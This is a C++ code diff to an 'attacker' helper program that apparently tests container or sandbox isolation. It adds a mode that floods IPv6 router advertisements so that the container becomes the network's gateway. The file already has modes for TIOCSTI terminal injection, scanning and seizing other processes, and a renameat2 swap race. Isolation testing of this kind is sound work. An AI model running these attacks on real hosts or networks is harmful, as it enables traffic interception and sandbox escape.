@@ -7,10 +7,13 @@
 //        attacker handle FILE           open a file by its handle
 //        attacker open FILE             open it for reading
 //        attacker socket FAMILY         make a datagram or seqpacket socket
+#include <arpa/inet.h>
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/keyctl.h>
+#include <net/if.h>
+#include <netinet/in.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -56,7 +59,7 @@ static int seize() {
   setvbuf(stdout, nullptr, _IONBF, 0);
   puts("ready");
   for (pid_t next = 2;; ++next) {
-    if (next > 400) next = 2;
+    if (next > 1000) next = 2;
     if (next == getpid() || kill(next, 0) != 0) continue;
     ++seen;
     char path[64];
@@ -77,6 +80,26 @@ static int seize() {
   }
 }
 
+/// A router advertisement (RFC 4861) that makes this container everybody's gateway.
+static int advertise(const char* interface) {
+  int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
+  if (fd < 0) return fail("socket");
+  int hops = 255, index = static_cast<int>(if_nametoindex(interface));
+  setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
+  setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &index, sizeof index);
+  unsigned char advertisement[16] = {134, 0, 0, 0, 64, 0, 0x07, 0x08};
+  sockaddr_in6 all = {};
+  all.sin6_family = AF_INET6;
+  all.sin6_scope_id = static_cast<uint32_t>(index);
+  inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
+  // The link-local address takes its time.
+  for (int i = 0; i < 30; ++i) {
+    if (sendto(fd, advertisement, sizeof advertisement, 0, reinterpret_cast<sockaddr*>(&all), sizeof all) > 0) puts("sent");
+    usleep(100'000);
+  }
+  return 0;
+}
+
 int main(int argc, char** argv) {
   std::string mode = argc > 1 ? argv[1] : "";
   if (mode == "tiocsti") {
@@ -85,6 +108,7 @@ int main(int argc, char** argv) {
     return 0;
   }
   if (mode == "seize") return seize();
+  if (mode == "advertise") return advertise(argv[2]);
   if (mode == "exchange")
     for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */);
   if (mode == "writable") {
